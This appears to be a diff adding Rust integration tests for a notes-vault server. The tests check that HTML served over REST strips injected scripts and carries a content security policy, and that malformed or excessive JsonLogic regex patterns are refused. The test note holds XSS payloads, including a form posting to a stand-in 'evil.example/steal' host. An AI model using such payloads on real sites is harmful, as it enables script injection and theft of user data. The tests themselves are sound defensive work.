@@ -1,0 +1,66 @@
+//! Input written to hurt, on the real binary: a note's HTML over REST is as inert as on the
+//! web page, and a JsonLogic query's patterns are refused when they are invalid, oversized or
+//! too many, instead of being silently false for every note.
+
+use serde_json::json;
+
+use crate::common::{Server, TempVault};
+
+const HASHING: &[(&str, &str)] =
+    &[("MDVAULT_EMBEDDING__BACKEND", "hashing"), ("MDVAULT_WATCH__DEBOUNCE_SECONDS", "0.2")];
+
+fn server() -> (TempVault, Server) {
+    let v = TempVault::fixture();
+    let s = Server::start(&[format!("fixture={}", v.root().display())], HASHING);
+    (v, s)
+}
+
+#[test]
+fn a_notes_html_over_rest_is_sanitised_and_served_with_a_policy() {
+    let (v, s) = server();
+    let note = "# Trap\n\n<script>alert(1)</script>\n\n<img src=x onerror=alert(2)>\n\n\
+                <iframe src=\"javascript:alert(3)\"></iframe>\n\n\
+                <form action=\"https://evil.example/steal\"><input name=q></form>\n\n\
+                [click](javascript:alert(4))\n";
+    v.write("Inbox/Trap.md", note);
+    let r = s.call("GET", "/vault/Inbox/Trap.md", &[("Accept", "text/html")], None);
+    assert_eq!(r.status, 200, "{}", r.body);
+    for bad in ["<script", "onerror", "javascript:", "<iframe", "<form", "evil.example"] {
+        assert!(!r.body.contains(bad), "{bad} in {}", r.body);
+    }
+    assert!(r.body.contains("<h1>Trap</h1>"), "{}", r.body);
+    assert_eq!(r.header("x-content-type-options"), Some("nosniff"));
+    let csp = r.header("content-security-policy").expect("a policy");
+    assert!(csp.contains("default-src 'none'") && csp.contains("form-action 'none'"), "{csp}");
+}
+
+#[test]
+fn jsonlogic_patterns_that_cannot_run_are_refused_naming_them() {
+    let (_v, s) = server();
+    let post = |rule: serde_json::Value| {
+        s.call(
+            "POST",
+            "/search/",
+            &[("Content-Type", "application/vnd.olrapi.jsonlogic+json")],
+            Some(rule.to_string().as_bytes()),
+        )
+    };
+    let r = post(json!({"regexp": ["(unclosed", {"var": "content"}]}));
+    assert_eq!((r.status, r.code().as_str()), (400, "invalid_request"), "{}", r.body);
+    assert!(r.body.contains("(unclosed"), "{}", r.body);
+    let r = post(json!({"glob": ["x".repeat(5000), {"var": "path"}]}));
+    assert_eq!((r.status, r.code().as_str()), (400, "invalid_request"), "{}", r.body);
+    let many: Vec<_> =
+        (0..300).map(|i| json!({"regexp": [format!("zz{i}q"), {"var": "content"}]})).collect();
+    let r = post(json!({"or": many}));
+    assert_eq!((r.status, r.code().as_str()), (400, "invalid_request"), "{}", r.body);
+    assert!(r.body.contains("distinct patterns"), "{}", r.body);
+    // Two hundred valid patterns are compiled once each and answer promptly.
+    let fine: Vec<_> =
+        (0..200).map(|i| json!({"regexp": [format!("zz{i}q"), {"var": "content"}]})).collect();
+    let started = std::time::Instant::now();
+    let r = post(json!({"or": [{"regexp": ["Boiler", {"var": "path"}]}, {"or": fine}]}));
+    assert_eq!(r.status, 200, "{}", r.body);
+    assert!(r.body.contains("Home/Boiler.md"), "{}", r.body);
+    assert!(started.elapsed() < std::time::Duration::from_secs(60));
+}
